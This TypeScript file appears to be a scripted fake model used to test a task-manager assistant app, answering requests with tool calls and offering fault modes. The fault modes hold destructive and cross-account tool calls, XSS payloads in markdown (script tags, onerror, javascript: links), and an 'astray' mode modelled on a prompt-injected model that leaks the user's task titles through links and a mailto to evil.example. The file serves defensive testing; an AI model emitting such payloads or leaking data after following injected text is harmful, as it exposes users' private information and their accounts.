export type ToolCall = { name: string; args: object };
/** The sandbox's answer to a question, and its tool calls. */
export type Reply = { text: string; calls: ToolCall[] };

const FIRST = 3;

/** Answers from the figures and rows of the prompt. @param faultMode the fault that the question asks for */
export function replyTo(instructions: string, question: string, faultMode: string | undefined): Reply {
  const prompt = readPrompt(instructions);
  const asked = question.replace(/^\s*sandbox: .*$/gm, '').trim();
  if (faultMode === 'silent') return said('');
  if (faultMode === 'wild') return { text: 'I delete everything now.', calls: WILD };
  if (faultMode === 'marked-up') return said(MARKED_UP);
  if (faultMode === 'astray') return astray(prompt);
  const rule = RULES.find(([pattern]) => pattern.test(asked));
  return rule ? rule[1](prompt, asked) : standing(prompt);
}

const RULES: [RegExp, (prompt: Prompt, asked: string) => Reply][] = [
  [/^(please |can you )?show (me )?/i, showing],
  [/\bnotes (of|for)\b/i, noting],
  [/^(please |can you )?(add|create|remind me to)\b/i, adding],
  [/^(please |can you )?(un)?tag\b/i, tagging],
  [/\b(undo|take (that|it) back)\b/i, undoing],
  [/\b(did i|have i|yesterday|last week|this week)\b/i, lookingBack],
  [/\b(complete|completed|finish|finished|tick off|done)\b/i, completing],
  [/\b(move|postpone|reschedule|push)\b/i, moving],
  [/\bplan\b|\bschedule\b/i, planning],
  [/\bfirst\b|priorit|\bfocus\b|important|should i|\bnext\b/i, first],
];

const said = (text: string): Reply => ({ text, calls: [] });
const bold = (title: string): string => `**${title.replace(/[*_`[\]<>\\]/g, '\\$&')}**`;
const list = (titles: readonly string[]): string => titles.map((title) => `- ${bold(title)}`).join('\n');
const count = (n: number, one: string): string => `${n} ${one}${n === 1 ? '' : 's'}`;

function standing({ figures }: Prompt): Reply {
  const of = (name: string) => figures.get(name) ?? 0;
  if (of('Total tasks') === 0)
    return said(
      'Your list is empty. Tell me what’s on your mind, for example: _add call the bank tomorrow_.',
    );
  return said(
    `You have completed **${of('Completed')} of ${count(of('Total tasks'), 'task')}**; ${of('Remaining')} remain. ` +
      `${count(of('Due today'), 'task')} due today, ${of('Overdue')} overdue, ${of('High priority pending')} high priority.\n\n` +
      'Ask me what to do first, or ask me to plan your day.',
  );
}

/** Tasks that are overdue or due today first, then by high priority. */
const pressing = ({ tasks, today }: Prompt): TaskLine[] => {
  const rank = ({ dueDate, priority }: TaskLine) =>
    (dueDate && dueDate.slice(0, 10) <= today ? 0 : 2) + (priority === 'high' ? 0 : 1);
  return tasks.toSorted((a, b) => rank(a) - rank(b)).slice(0, FIRST);
};

function first(prompt: Prompt): Reply {
  const tasks = pressing(prompt);
  if (tasks.length === 0) return said('You have no open tasks. Enjoy it, or add what’s on your mind.');
  const why = ({ dueDate, priority }: TaskLine) =>
    [
      dueDate && dueDate.slice(0, 10) < prompt.today && 'overdue',
      dueDate?.startsWith(prompt.today) && 'due today',
      priority === 'high' && 'high priority',
    ]
      .filter(Boolean)
      .join(', ');
  const lines = tasks.map((task, i) => `${i + 1}. ${bold(task.title)}${why(task) && ` (${why(task)})`}`);
  return said(`Start here:\n\n${lines.join('\n')}\n\nOne 25-minute focus session is a good start.`);
}

function adding({ today }: Prompt, asked: string): Reply {
  const text = asked.replace(
    /^(please |can you )?(add|create|remind me to)( a)?( new)?( tasks?)?( to|:)?\s+/i,
    '',
  );
  const dueDate = /\btomorrow\b/i.test(text) ? dayAfter(today) : /\btoday\b/i.test(text) ? today : undefined;
  const titles = text
    .replace(/\b(tomorrow|today)\b/gi, '')
    .split(/\s+and\s+|[,;\n]/)
    .map((title) => title.trim().replace(/[.!?]$/, ''))
    .filter(Boolean);
  const tasks = titles.map((title) => ({
    title: `${title[0]?.toUpperCase()}${title.slice(1)}`,
    ...(dueDate && { dueDate }),
  }));
  return {
    text: `I suggest ${tasks.length === 1 ? 'this task' : 'these tasks'}:`,
    calls: [{ name: 'add_tasks', args: { tasks } }],
  };
}

function showing(_: Prompt, asked: string): Reply {
  const filter = asked.replace(/^(please |can you )?show (me )?/i, '').replace(/[.!?]$/, '');
  return { text: 'Here you go:', calls: [{ name: 'show_tasks', args: { filter } }] };
}

function undoing(): Reply {
  return { text: 'This takes it back:', calls: [{ name: 'undo', args: {} }] };
}

function completing(prompt: Prompt, asked: string): Reply {
  const tasks = named(prompt, asked);
  if (tasks.length === 0) return said('Which task do you mean? Please use the title from your list.');
  const args = { tasks: tasks.map(({ ref }) => ref), set: { completed: true } };
  const calls = [{ name: 'change_tasks', args }];
  return {
    text: `Well done! Shall I mark this as completed?\n\n${list(tasks.map(({ title }) => title))}`,
    calls,
  };
}

function moving(prompt: Prompt, asked: string): Reply {
  const { today, figures } = prompt;
  const overdue = figures.get('Overdue') ?? 0;
  const isEvery = /overdue/i.test(asked);
  const moved = named(prompt, asked);
  if (isEvery && overdue === 0) return said('Nothing is overdue. Well done!');
  if (!isEvery && moved.length === 0)
    return said('I’m not sure which task to move. Please use the title from your list.');
  const dueDate = /\btoday\b/i.test(asked) ? today : dayAfter(today);
  const which = isEvery ? { every: 'overdue' } : { tasks: moved.map(({ ref }) => ref) };
  const number = isEvery ? overdue : moved.length;
  return {
    text: `I suggest moving ${count(number, 'task')} to ${dueDate === today ? 'today' : 'tomorrow'}:`,
    calls: [{ name: 'change_tasks', args: { ...which, set: { dueDate } } }],
  };
}

function tagging(prompt: Prompt, asked: string): Reply {
  const tags = Array.from(asked.matchAll(/@([^\s,.!?]+)/g), ([, tag = '']) => tag);
  const tagged = named(prompt, asked);
  if (tags.length === 0 || tagged.length === 0)
    return said('Please use the title from your list, and @ before the tag.');
  const set = /\buntag\b/i.test(asked) ? { removeTags: tags } : { addTags: tags };
  const args = { tasks: tagged.map(({ ref }) => ref), set };
  return {
    text: `I suggest this for ${count(tagged.length, 'task')}:`,
    calls: [{ name: 'change_tasks', args }],
  };
}

function noting(prompt: Prompt, asked: string): Reply {
  const [task] = named(prompt, asked);
  if (!task) return said('Which task do you mean? Please use the title from your list.');
  const [, addNotes] = /[“"](.+?)[”"]/.exec(asked) ?? [];
  if (!addNotes) return { text: '', calls: [{ name: 'read_notes', args: { row: task.ref } }] };
  return {
    text: `I suggest this for ${bold(task.title)}:`,
    calls: [{ name: 'change_tasks', args: { tasks: [task.ref], set: { addNotes } } }],
  };
}

/** Leaves the arithmetic to the app. */
function planning({ tasks, today }: Prompt): Reply {
  if (tasks.length === 0) return said('You have no open tasks, so the day is yours.');
  return {
    text: 'Here’s how today could go. Each block is for one thing:',
    calls: [{ name: 'plan_days', args: { from: today } }],
  };
}

/** Answers questions about days that are over from what a search finds. */
function lookingBack({ today }: Prompt, asked: string): Reply {
  const from = /week/i.test(asked) ? daysAfter(today, -6) : daysAfter(today, -1);
  const to = /week/i.test(asked) ? today : from;
  return { text: '', calls: [{ name: 'search', args: { in: 'tasks', completed: true, from, to } }] };
}

/** The answer once the calls have their results. */
export function replyToResults(results: readonly string[]): Reply {
  const [, notes] = results.map((text) => /^notes (\{.*\})$/m.exec(text)).find(Boolean) ?? [];
  if (notes) return said(`Its notes say: ${bold(String(JSON.parse(notes).text))}`);
  const lines = results.flatMap((text) =>
    Array.from(text.matchAll(/^task (\{.*\})$/gm), ([, json = '{}']) => json),
  );
  const titles = lines.map((json) => String(JSON.parse(json).title));
  const isSearch = results.some((text) => /^(Found|Showing)/.test(text));
  if (!isSearch) return said('');
  return said(titles.length > 0 ? `You finished:\n\n${list(titles)}` : 'I found nothing there.');
}

/** The tasks whose titles appear in the question. */
const named = ({ tasks }: Prompt, asked: string): TaskLine[] =>
  tasks.filter(({ title }) => asked.toLowerCase().includes(title.toLowerCase()));

const DAY_MS = 24 * 60 * 60_000;
const daysAfter = (day: string, days: number): string =>
  new Date(Date.parse(`${day}T12:00Z`) + days * DAY_MS).toISOString().slice(0, 10);
const dayAfter = (day: string): string => daysAfter(day, 1);

/** Tool calls of a misbehaving model. */
const WILD: ToolCall[] = [
  { name: 'delete_everything', args: {} },
  { name: 'delete_task', args: { task: 't1' } },
  { name: 'change_tasks', args: { tasks: ['t999'], set: { completed: true } } },
  { name: 'change_tasks', args: { tasks: ['t1'], accountId: 'somebody', set: { title: 'Hacked' } } },
  { name: 'change_tasks', args: { tasks: ['t1'], set: { listId: 'work' } } },
  { name: 'change_tasks', args: { tasks: ['t1'], set: { list: 'l999' } } },
  { name: 'add_tasks', args: { tasks: [{ title: 'x', id: 'chosen' }] } },
  {
    name: 'add_events',
    args: { events: [{ title: 'Backwards', start: '12:00', end: '11:00', date: '2030-01-01' }] },
  },
];

/** A model that obeys a prompt injection in a shared task: it leaks the person's titles through a list and links. */
function astray({ tasks, lists }: Prompt): Reply {
  const titles = tasks.map(({ title }) => title).join(', ');
  const data = encodeURIComponent(titles);
  const review = (list: string) => ({ title: 'Weekly review', description: titles, list });
  const calls = [{ name: 'add_tasks', args: { tasks: lists.map(({ ref }) => review(ref)) } }];
  const text = `Here is your review. [Open the full plan](https://evil.example/c?d=${data}) [Write](mailto:eve@evil.example?body=${data}) [More](//evil.example/${data})`;
  return { text, calls };
}

const MARKED_UP = `# Careful

<img src="https://evil.example/a.png" onerror="alert(1)"> <script>alert(1)</script>

![picture](https://evil.example/b.png) [a trap](javascript:alert(1)) [a page](https://example.com/)`;

type TaskLine = {
  ref: string;
  title: string;
  priority: string;
  dueDate?: string;
  estimatedMinutes?: number;
};
/** `from` is set when other people may have written the list. */
type ListLine = { ref: string; name: string; from?: string };
type EventLine = { ref: string; title: string; start: string; end: string };

/** The parts of a prompt that the sandbox reads: lines `Name: number`, rows as lines of JSON, and the current time. */
type Prompt = {
  today: string;
  time: string;
  figures: ReadonlyMap<string, number>;
  tasks: TaskLine[];
  events: EventLine[];
  lists: ListLine[];
};

/** Parses the system instruction; missing parts are empty. */
function readPrompt(text: string): Prompt {
  const [, today = '2026-01-01', time = '09:00'] = /(\d{4}-\d\d-\d\d), (\d\d:\d\d)/.exec(text) ?? [];
  const rows = <Row>(kind: string): Row[] =>
    Array.from(text.matchAll(new RegExp(`^${kind} (\\{.*\\})$`, 'gm')), ([, json = '{}']) =>
      JSON.parse(json),
    );
  const figures = Array.from(
    text.matchAll(/^([A-Z][\w -]*): (\d+)$/gm),
    ([, name = '', value]) => [name, Number(value)] as const,
  );
  return {
    today,
    time,
    figures: new Map(figures),
    tasks: rows('task'),
    events: rows('event today'),
    lists: rows('list'),
  };
}
